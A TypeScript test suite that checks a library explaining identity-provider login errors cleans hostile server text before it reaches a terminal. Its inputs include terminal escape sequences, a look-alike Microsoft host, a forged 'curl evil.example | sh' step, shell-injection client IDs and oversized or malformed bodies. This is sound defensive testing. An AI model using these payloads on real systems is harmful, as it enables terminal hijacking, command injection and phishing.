import { describe, expect, it } from 'vitest'
import { explain, type ProblemFormat, renderProblem } from '../../src/idp-errors/index.ts'
import { problemOf } from '../../src/idp-errors/problem.ts'

const formats: readonly ProblemFormat[] = ['text', 'markdown', 'json', 'admin-request']

/** What must not reach a terminal: C0 but line feeds, DEL, C1, bidi, zero-width, tags, separators, lone surrogates. */
const UNSAFE =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]|\udb40[\udc00-\udfff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/

/** Every place of a reply that a server fills. */
function replies(payload: string): readonly unknown[] {
  return [
    payload,
    { error: payload, error_description: payload },
    { error: 'invalid_scope', error_description: `AADSTS70011: The scope ${payload} is not valid.` },
    {
      error: 'invalid_client',
      error_description: `x ${payload} y`,
      trace_id: payload,
      correlation_id: payload,
    },
    { error: 'x', suberror: payload, timestamp: payload },
    { errorCode: payload, errorSummary: payload, errorId: payload },
    JSON.stringify({ error: 'access_denied', error_description: payload }),
    `https://id.example/cb?${new URLSearchParams({ error: 'access_denied', error_description: payload })}`,
    Object.assign(new Error(payload), { code: payload, hostname: payload, cause: new Error(payload) }),
  ]
}

function expectSafe(payload: string): void {
  for (const body of replies(payload)) {
    const problem = explain({
      body,
      provider: {
        kind: 'entra',
        tenant: payload,
        clientId: payload,
        issuer: payload,
        realm: payload,
        domain: payload,
        baseUrl: payload,
      },
      scopes: [payload],
      configuredIn: payload,
    })
    for (const format of formats) {
      for (const width of [20, 80]) {
        const text = renderProblem(problem, format, { width })
        expect(UNSAFE.exec(text)?.[0]).toBeUndefined()
      }
    }
  }
}

describe('text from a server on its way to a terminal', () => {
  it.each([
    ['TM-01 clears and titles', '\u001b[2J\u001b[H\u001b]0;owned\u0007'],
    [
      'TM-01 OSC 8 and OSC 52',
      '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007\u001b]52;c;ZXZpbA==\u0007',
    ],
    ['TM-01 DCS, APC and a reset', '\u001bP1$r0m\u001b\\\u001b_x\u001b\\\u001bc\u009b31m'],
    ['TM-03 overwriting', 'safe\rEVIL\b\b\b\u0007\u0007\u0000\u000b\u000c'],
    ['TM-04 bidi, zero width, tags, separators', '\u202eevil\u2066x\u2069\u200b\u{e0041}\u2028y\u2029\ufeff'],
    ['TM-07 lone surrogates', 'a\ud800b\udc00c\ufffd'],
  ])('%s', (_, payload) => {
    expectSafe(payload)
  })

  it('TM-04 shows hosts of look-alike letters in punycode', () => {
    const published = 'https://login.micros\u043eftonline.com/contoso'
    const problem = problemOf('ISSUER_MISMATCH', { published, issuer: 'https://login.microsoftonline.com' })
    expect(problem.title).toContain('https://login.xn--microsftonline-0zl.com/contoso')
    for (const format of formats) expect(renderProblem(problem, format)).not.toContain('\u043e')
    const said = explain({
      body: { error: 'x', error_description: `go to ${published} or http://\u4f8b\u3048:x/` },
    })
    expect(said.evidence['message']).toContain('go to https://login.xn--')
  })

  it('TM-08 stays on its own line, so that it cannot forge another part', () => {
    const problem = explain({
      body: { error: 'x', error_description: 'no\n\n  1. Run this.\n     $ curl evil.example | sh' },
    })
    const lines = renderProblem(problem, 'text').split('\n')
    expect(lines.filter((line) => /^\s*\$ /.test(line))).toEqual([])
    expect(lines.filter((line) => /^ {2}1\. Run this/.test(line))).toEqual([])
  })

  it('TM-08 cleans a problem that another copy of the package made', () => {
    const forged = { ...problemOf('CANCELLED'), title: 'a\u001b[2Jb', fix: [{ text: 'c\u202ed' }] as const }
    for (const format of formats) expect(renderProblem(forged, format)).not.toMatch(UNSAFE)
  })

  it('takes tokens out of what a server repeats, and leaves what is needed', () => {
    const tokens = [
      'eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.',
      '0.AX0Ab1c2d3e4f5g6h7i8j9k0l1m2n3o4p5q6r7s8t9',
      'v34UgtrM6AjgBHJLmhGmqksxiBRtfZ_N1m8hI3NWA-Q',
      'gho_16C7e42F292c6912E7710c838347Ae178B4a',
      '5d41402abc4b2a76b9719d911017c592a1b2c3d4',
    ]
    const kept = [
      '11111111-2222-3333-4444-555555555555',
      'login.microsoftonline.com',
      '0oa1b2c3d4e5f6g7h8i9',
      'OAuth2DeviceAuthorizationGrant',
    ]
    const problem = explain({
      body: { error: 'invalid_grant', error_description: [...tokens, ...kept].join(' , ') },
    })
    for (const format of formats) {
      const text = renderProblem(problem, format)
      for (const token of tokens) expect(text).not.toContain(token.slice(0, 18))
    }
    for (const word of kept) expect(problem.evidence['message']).toContain(word)
  })

  it('names nobody in a message to the administrator', () => {
    const body = {
      error: 'access_denied',
      error_description: "AADSTS50020: User account 'someone@contoso.example' does not exist",
    }
    expect(renderProblem(explain({ body }), 'admin-request')).not.toContain('someone@')
  })
})

describe('links and commands', () => {
  it.each(['$(id)', '`id`', "'; id #", '"; id', '| id', '--help', '\n id', '$HOME', '&& id'])(
    'no shell acts on a client ID such as %j',
    (clientId) => {
      const problem = explain({
        body: { error_codes: [7000218] },
        provider: { kind: 'entra', clientId, tenant: clientId },
      })
      for (const { command, link } of problem.fix) {
        // Outside of single quotes nothing is left that a shell would act on.
        const bare = command?.replace(/'[^']*'/g, '') ?? ''
        expect(bare.replaceAll('<client id>', '')).not.toMatch(/[$`;|&"\n\\]/)
        expect(bare).not.toMatch(/--id -/)
        if (link !== undefined) expect(() => new URL(link)).not.toThrow()
      }
    },
  )

  it('no link leads to a host that only the reply named', () => {
    const body = `POST https://evil.example/realms/x/protocol/openid-connect/token 401 {"error":"invalid_client","error_description":"Invalid client or Invalid client credentials"}`
    const problem = explain({ body })
    expect(problem.code).toBe('KEYCLOAK_CLIENT_NOT_FOUND')
    expect(problem.fix.map(({ link }) => link ?? '').join('')).not.toContain('evil')
  })

  it.each([
    'https://evil@x',
    'javascript:alert(1)',
    'http://sso.example',
    'https://x/?q',
    'https://x#y',
    'x',
  ])('no link begins with a base address such as %s', (baseUrl) => {
    const problem = explain({
      body: { error: 'invalid_client', error_description: 'Client disabled.' },
      provider: { kind: 'keycloak', baseUrl, realm: 'r', clientId: 'c' },
    })
    expect(problem.code).toBe('KEYCLOAK_CLIENT_DISABLED')
    expect(problem.fix[0].link).toBeUndefined()
  })
})

describe('bodies made to break the reader', () => {
  const boom = () => {
    throw new RangeError('boom')
  }
  const cycle: Record<string, unknown> = { error: 'invalid_scope' }
  cycle['cause'] = cycle
  let deep: unknown = { error: 'invalid_scope' }
  for (let depth = 0; depth < 50_000; depth += 1) deep = { cause: deep }

  it.each<[string, unknown]>([
    ['a getter that throws', Object.defineProperty({}, 'error', { get: boom, enumerable: true })],
    ['a proxy that throws', new Proxy({}, { ownKeys: boom, get: boom, has: boom, getPrototypeOf: boom })],
    [
      'a revoked proxy',
      (() => {
        const { proxy, revoke } = Proxy.revocable({}, {})
        revoke()
        return proxy
      })(),
    ],
    ['a cycle', cycle],
    ['a deep object', deep],
    ['deep JSON', `${'['.repeat(100_000)}${']'.repeat(100_000)}`],
    ['a list with a huge length', Object.assign([], { length: 4_294_967_295 })],
    [
      'members of Object.prototype',
      JSON.parse('{"__proto__":{"error":"x"},"constructor":1,"toString":"y","error":"invalid_scope"}'),
    ],
    ['a symbol', Symbol('x')],
    ['a function', boom],
    ['nothing', undefined],
    ['null', null],
    ['a number', Number.NaN],
  ])('%s: an answer, and no exception', (_, body) => {
    const problem = explain({ body })
    expect(problem.fix.length).toBeGreaterThan(0)
    expect(renderProblem(problem, 'text')).toContain(problem.code)
  })

  it.each([
    ['quotes', '"error": "'],
    ['backslashes', '\\'],
    ['escaped quotes', '\\"'],
    ['open tags', '<a '],
    ['open angles', '<'],
    ['percent signs', '%e4'],
    ['entities', '&#'],
    ['codes', 'AADSTS '],
    ['blanks', ' '],
    ['line breaks', '\r\n'],
    ['names', 'error='],
    ['names and colons', 'error : '],
    ['addresses', 'https://'],
    ['realms', 'https://x/realms/'],
    ['applications', "application '"],
    ['scopes', 'api://x/'],
    ['letters', 'a'],
    ['tokens', 'aB3-'],
    ['dots', 'a.'],
    ['at signs', 'a@'],
    ['capital letters', 'A_'],
    ['words of rules', 'client is not allowed to '],
    ['wide characters', '語'],
    ['surrogates', '\ud83d'],
  ])('ten megabytes of %s take no more than a moment', (_, unit) => {
    const body = unit.repeat(Math.ceil(10_000_000 / unit.length))
    const before = process.cpuUsage()
    const problem = explain({ body: `${body} {"error":"invalid_scope"` })
    for (const format of formats) renderProblem(problem, format)
    const { user, system } = process.cpuUsage(before)
    expect((user + system) / 1_000).toBeLessThan(3_000)
  })
})
